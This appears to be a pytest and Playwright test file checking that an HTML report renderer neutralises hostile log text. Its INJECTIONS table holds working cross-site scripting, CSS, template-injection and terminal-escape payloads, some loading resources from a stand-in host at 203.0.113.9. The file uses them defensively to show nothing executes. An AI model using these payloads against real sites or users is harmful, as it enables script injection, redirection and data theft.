"""Texts of strangers in every place of a report: the browser shows them and performs nothing of them."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from opening import DESK, PHONE, SCHEMES, opened

from analyzer.reports import render
from tests.reports.bakery_reports import ATTACKS, first_cycle, hostile_cycle

if TYPE_CHECKING:
    from playwright.sync_api import Browser

PWN = "window.__pwned=1"
STRANGER = "//203.0.113.9"
INJECTIONS = {
    "a script": f"<script>{PWN}</script><script src={STRANGER}/x.js></script>",
    "the end of a script": f"</script><script>{PWN}//",
    "an attribute": f'" autofocus tabindex=1 onfocus=\'{PWN}\' onmouseover="{PWN}" x="',
    "an attribute without quotes": f" onclick={PWN} x=",
    "an image": f"'\"><img src={STRANGER}/x.png onerror={PWN}>",
    "an SVG": f"</title></text></svg><svg onload={PWN}><animate onbegin={PWN} attributeName=x dur=1s></svg>",
    "a style": f"</style><style>*{{display:none;background:url({STRANGER}/x)}}</style>",
    "a declaration": f"red;}}}} * {{ background: url({STRANGER}/x) }} /* x: expression({PWN})",
    "an address": f"javascript:{PWN}",
    "an address of data": f"data:text/html,<script>opener.{PWN}</script>",
    "a frame": f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe><object data={STRANGER}/x></object>",
    "a refresh": f"<meta http-equiv=refresh content='0;url=http:{STRANGER}/'><base href=http:{STRANGER}/>",
    "a form": f"<form action=http:{STRANGER}/><input name=x autofocus onfocus={PWN}></form>",
    "a template": f"{{{{ self.__init__.__globals__ }}}} {{% include 'x' %}} ${{{PWN}}} <% {PWN} %> </template>",
    "a comment": f"--><script>{PWN}</script><!-- <![CDATA[ <script>{PWN}</script> ]]>",
    "MathML": f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    "directions": "\u202eevil\u202c \u2066isolated\u2069 \u200f\u061c \ufeff \U000e0041",
    "a terminal": f"\x1b]8;;http:{STRANGER}\x07link\x1b]8;;\x07 \x1b[2J\x1b[31mred\x9b0m \x00\x08",
}


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A page whose every free text holds every attack."""
    page = tmp_path_factory.mktemp("hostile") / "report.html"
    page.write_text(render(hostile_cycle((*INJECTIONS.values(), *ATTACKS)), "html"), encoding="utf-8")
    return page


@pytest.mark.parametrize("name", INJECTIONS)
def test_nothing_that_a_log_says_is_performed(browser: Browser, tmp_path: Path, name: str) -> None:
    page = tmp_path / "report.html"
    page.write_text(render(hostile_cycle((INJECTIONS[name],)), "html"), encoding="utf-8")
    # without the policy: escaping alone must hold
    with opened(browser, page.as_uri(), bypass_csp=True) as screen:
        screen.unfold()
        screen.ask("for (const node of document.querySelectorAll('*')) node.dispatchEvent(new MouseEvent('mouseover'))")
        screen.page.keyboard.press("Tab")
        screen.page.keyboard.press("j")
        screen.page.wait_for_timeout(50)
        assert screen.ask("window.__pwned === undefined")
        assert screen.complaints == []
        assert screen.requests == [page.as_uri()]
        assert screen.page.locator("h1").is_visible()
        links = set(screen.ask("[...document.links].map((link) => link.protocol)"))
        assert links <= {"file:", "https:", "http:"}


def test_a_text_that_is_performed_would_be_seen(browser: Browser, tmp_path: Path) -> None:
    page = tmp_path / "raw.html"
    for name in ("a script", "an image", "an SVG", "a frame"):
        page.write_text(f"<!DOCTYPE html><title>Raw</title><h1>Raw</h1>{INJECTIONS[name]}", encoding="utf-8")
        with opened(browser, page.as_uri()) as screen:
            screen.page.wait_for_function("window.__pwned === 1", timeout=5_000)


@pytest.mark.parametrize("width", [PHONE, DESK])
@pytest.mark.parametrize("scheme", SCHEMES)
def test_a_hostile_page_stays_silent_accessible_and_in_its_frame(
    browser: Browser, axe: str, hostile: Path, scheme: str, width: int
) -> None:
    with opened(browser, hostile.as_uri(), width=width, color_scheme=scheme) as screen:
        screen.unfold()
        assert screen.ask("window.__pwned === undefined")
        assert screen.complaints == []
        assert screen.requests == [hostile.as_uri()]
        assert screen.overflow() == []
        assert screen.violations(axe) == []


@pytest.mark.parametrize(
    "text", ["A" * 1_000_000, "so much to say " * 70_000, "\n" * 50_000], ids=["word", "words", "lines"]
)
def test_a_text_of_a_megabyte_stays_in_its_frame(browser: Browser, tmp_path: Path, text: str) -> None:
    report = first_cycle()
    cluster = report["clusters"][0]
    cluster |= {"title": text, "template": text, "core": text}
    cluster["exemplars"][0]["message"] = text
    report["tests"]["results"][0] |= {"test": text, "message": text}
    report["causes"][0]["summary"] = text
    report["actions"][0] |= {"text": text, "command": text}
    page = tmp_path / "report.html"
    page.write_text(render(report, "html"), encoding="utf-8")
    with opened(browser, page.as_uri(), width=PHONE) as screen:
        screen.unfold()
        assert screen.overflow() == []
        assert screen.complaints == []
        assert screen.requests == [page.as_uri()]
